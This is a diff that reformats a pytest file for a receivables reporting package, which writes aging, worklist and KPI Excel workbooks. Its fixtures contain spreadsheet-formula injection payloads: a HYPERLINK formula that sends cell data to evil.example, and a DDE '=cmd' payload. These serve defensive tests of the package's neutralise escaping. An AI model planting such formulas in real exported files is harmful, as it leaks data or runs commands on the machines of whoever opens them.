@@ -16,36 +16,85 @@ from receivables.charts import aging_chart, aging_trend, trend_chart
 from receivables.errors import ReceivablesError
 from receivables.workbook import neutralise, report_sheets, write_workbook
 
-HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
-CUSTOMERS = pd.DataFrame({
-    "customer_id": ["C1", "C2", "C3"],
-    "name": [HOSTILE, "Müller & Söhne GmbH", "@SUM(1+1)"],
-    "currency": ["EUR", "EUR", "USD"],
-})
+CUSTOMERS = pd.DataFrame(
+    {
+        "customer_id": ["C1", "C2", "C3"],
+        "name": [HOSTILE, "Müller & Söhne GmbH", "@SUM(1+1)"],
+        "currency": ["EUR", "EUR", "USD"],
+    }
+)
 
 
 def aging_frame() -> pd.DataFrame:
-    rows = [("1000", "C1", "EUR", [123456, 1, 0, 0, 0, 99]), ("1000", "C2", "EUR", [0, 0, 5000, -2500, 0, 0]),
-            ("3000", "C3", "USD", [10, 20, 30, 40, 50, 60])]
-    frame = pd.DataFrame([{"company_code": c, "customer_id": k, "currency": cur, **dict(zip(TABLE_BUCKETS, b)), "total": sum(b)} for c, k, cur, b in rows])
+    rows = [
+        ("1000", "C1", "EUR", [123456, 1, 0, 0, 0, 99]),
+        ("1000", "C2", "EUR", [0, 0, 5000, -2500, 0, 0]),
+        ("3000", "C3", "USD", [10, 20, 30, 40, 50, 60]),
+    ]
+    frame = pd.DataFrame(
+        [
+            {"company_code": c, "customer_id": k, "currency": cur, **dict(zip(TABLE_BUCKETS, b)), "total": sum(b)}
+            for c, k, cur, b in rows
+        ]
+    )
     frame["total_base"] = pd.array([123556, 2500, pd.NA], dtype="Int64")
     return frame
 
 
-WORKLIST = pd.DataFrame({
-    "rank": [1, 2], "company_code": ["1000", "1000"], "customer_id": ["C1", "C2"], "collector": ["Anna", None],
-    "priority": [113.07, 42.07], "overdue_amount": [999900, 99900], "reason": ["-1 day: call", "dispute D4"],
-    "next_action": ["handover", "call"],
-})
-UNAPPLIED = pd.DataFrame({"payment_id": ["P1"], "company_code": ["1000"], "customer_id": [None], "remaining_amount": [8000],
-                          "currency": ["EUR"], "reason": ["UNIDENTIFIED"]})
-PAYMENTS = pd.DataFrame({"payment_id": ["P1"], "value_date": pd.to_datetime(["2026-10-15"]), "payer_name": ["+49 ACME"],
-                         "remittance_info": ["\t=cmd|' /C calc'!A0"]})
-NOTICES = pd.DataFrame({"notice_id": ["N1"], "company_code": ["1000"], "customer_id": ["C1"], "currency": ["EUR"], "level": [2],
-                        "overdue_amount": [100], "fees": [500], "interest": [3], "action": ["email"], "policy": ["STANDARD"]})
-KPIS = pd.DataFrame({"company_code": ["1000", "1000", "ALL"], "kpi": ["dso_standard", "ar_total", "cei"],
-                     "value": [Decimal("37.5000"), Decimal("5000.00"), None], "unit": ["days", "amount", "percent"]})
+WORKLIST = pd.DataFrame(
+    {
+        "rank": [1, 2],
+        "company_code": ["1000", "1000"],
+        "customer_id": ["C1", "C2"],
+        "collector": ["Anna", None],
+        "priority": [113.07, 42.07],
+        "overdue_amount": [999900, 99900],
+        "reason": ["-1 day: call", "dispute D4"],
+        "next_action": ["handover", "call"],
+    }
+)
+UNAPPLIED = pd.DataFrame(
+    {
+        "payment_id": ["P1"],
+        "company_code": ["1000"],
+        "customer_id": [None],
+        "remaining_amount": [8000],
+        "currency": ["EUR"],
+        "reason": ["UNIDENTIFIED"],
+    }
+)
+PAYMENTS = pd.DataFrame(
+    {
+        "payment_id": ["P1"],
+        "value_date": pd.to_datetime(["2026-10-15"]),
+        "payer_name": ["+49 ACME"],
+        "remittance_info": ["\t=cmd|' /C calc'!A0"],
+    }
+)
+NOTICES = pd.DataFrame(
+    {
+        "notice_id": ["N1"],
+        "company_code": ["1000"],
+        "customer_id": ["C1"],
+        "currency": ["EUR"],
+        "level": [2],
+        "overdue_amount": [100],
+        "fees": [500],
+        "interest": [3],
+        "action": ["email"],
+        "policy": ["STANDARD"],
+    }
+)
+KPIS = pd.DataFrame(
+    {
+        "company_code": ["1000", "1000", "ALL"],
+        "kpi": ["dso_standard", "ar_total", "cei"],
+        "value": [Decimal("37.5000"), Decimal("5000.00"), None],
+        "unit": ["days", "amount", "percent"],
+    }
+)
 
 
 @pytest.fixture(scope="module")
@@ -59,8 +108,20 @@ def workbook(tmp_path_factory) -> openpyxl.Workbook:
 def test_sheets_headers_filters_and_frozen_panes(workbook) -> None:
     assert workbook.sheetnames == ["Aging", "Worklist", "Unapplied cash", "Dunning proposal", "KPIs"]
     ws = workbook["Aging"]
-    assert [c.value for c in ws[1]] == ["Company code", "Customer", "Customer name", "Currency", "Not due", "1-30", "31-60",
-                                        "61-90", "91-120", "121+", "Total", "Total (base currency)"]
+    assert [c.value for c in ws[1]] == [
+        "Company code",
+        "Customer",
+        "Customer name",
+        "Currency",
+        "Not due",
+        "1-30",
+        "31-60",
+        "61-90",
+        "91-120",
+        "121+",
+        "Total",
+        "Total (base currency)",
+    ]
     assert ws[1][0].font.b
     assert ws.freeze_panes == "A2"
     assert ws.auto_filter.ref == "A1:L4"
@@ -101,19 +162,31 @@ def test_money_to_the_cent_and_dates_as_dates(workbook) -> None:
     assert [c.value for c in dun[2]][6:9] == [1.0, 5.0, 0.03]
     kpis = workbook["KPIs"]
     assert [[c.value for c in r] for r in kpis.iter_rows(min_row=2)] == [
-        ["1000", "dso_standard", 37.5, "days"], ["1000", "ar_total", 5000.0, "amount"], ["ALL", "cei", None, "percent"],
+        ["1000", "dso_standard", 37.5, "days"],
+        ["1000", "ar_total", 5000.0, "amount"],
+        ["ALL", "cei", None, "percent"],
     ]
 
 
 def test_neutralise() -> None:
     assert [neutralise(t) for t in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "a=1", "", "Acme"]] == [
-        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "a=1", "", "Acme",
+        "'=1+1",
+        "'+1",
+        "'-1",
+        "'@A1",
+        "'\tx",
+        "'\rx",
+        "a=1",
+        "",
+        "Acme",
     ]
 
 
 def test_sheet_names_are_made_valid_and_unique(tmp_path: Path) -> None:
     frame = pd.DataFrame({"a": [1]})
-    path = write_workbook(tmp_path / "x.xlsx", {"a/b:c": frame, "A/B:C": frame, "x" * 40: frame, "empty": frame.iloc[0:0]})
+    path = write_workbook(
+        tmp_path / "x.xlsx", {"a/b:c": frame, "A/B:C": frame, "x" * 40: frame, "empty": frame.iloc[0:0]}
+    )
     wb = openpyxl.load_workbook(path)
     assert wb.sheetnames == ["a_b_c", "A_B_C (2)", "x" * 31, "empty"]
     assert wb["empty"].freeze_panes == "A2"
@@ -177,12 +250,16 @@ def test_configured_bucket_labels_as_headers(tmp_path: Path) -> None:
 
     edges = [0, 45, 60, 90, 120, None]
     names = ["Current", "1-45", "46-60", "61-90", "91-120", "121+"]
-    config = AgingConfig(buckets=tuple(Bucket(column=c, label=n, max_days=e) for c, n, e in zip(TABLE_BUCKETS, names, edges)))
+    config = AgingConfig(
+        buckets=tuple(Bucket(column=c, label=n, max_days=e) for c, n, e in zip(TABLE_BUCKETS, names, edges))
+    )
     path = write_workbook(tmp_path / "l.xlsx", {"Aging": aging_frame()}, labels=labels_for(config))
     assert [c.value for c in openpyxl.load_workbook(path)["Aging"][1]][3:9] == names
 
 
-def test_a_nights_workbook_is_the_same_written_in_the_background(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_nights_workbook_is_the_same_written_in_the_background(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A large night writes its workbook in another process while the reminders render: the
     file is the one the run's own process writes, and appears only once the run published."""
     from receivables import pipeline
@@ -194,20 +271,30 @@ def test_a_nights_workbook_is_the_same_written_in_the_background(tmp_path: Path,
     real_publish = pipeline.publish
     for mode, render_workers in (("inline", 1), ("background", 2)):
         work = tmp_path / mode
-        settings = load_settings(db_url=f"sqlite:///{work / 'w.db'}", archive_dir=work / "archive", outbox_dir=work / "outbox",
-                                 reports_dir=work / "reports", mail_mode="preview", render_workers=render_workers)
+        settings = load_settings(
+            db_url=f"sqlite:///{work / 'w.db'}",
+            archive_dir=work / "archive",
+            outbox_dir=work / "outbox",
+            reports_dir=work / "reports",
+            mail_mode="preview",
+            render_workers=render_workers,
+        )
         seen_before_publish = {}
 
-        def publish(run, *args, work=work, **kwargs):
+        def publish(run, *args, work=work, seen_before_publish=seen_before_publish, **kwargs):
             seen_before_publish["files"] = sorted(p.name for p in (work / "reports").rglob("*.xlsx"))
             return real_publish(run, *args, **kwargs)
 
         monkeypatch.setattr(pipeline, "publish", publish)
-        summary = pipeline.run_nightly(str(write_set(work / "extracts", VALID_SET)), date.fromisoformat(VALID_AS_OF), settings)
+        summary = pipeline.run_nightly(
+            str(write_set(work / "extracts", VALID_SET)), date.fromisoformat(VALID_AS_OF), settings
+        )
         assert seen_before_publish["files"] == []  # no workbook under its name before the publish
         path = Path(summary["files"]["workbook"])
         assert sorted(p.name for p in path.parent.iterdir() if "xlsx" in p.name) == [path.name]  # no .partial left
         books[mode] = openpyxl.load_workbook(path)
     for inline, background in zip(books["inline"].worksheets, books["background"].worksheets):
         assert inline.title == background.title
-        assert [[c.value for c in row] for row in inline.iter_rows()] == [[c.value for c in row] for row in background.iter_rows()]
+        assert [[c.value for c in row] for row in inline.iter_rows()] == [
+            [c.value for c in row] for row in background.iter_rows()
+        ]
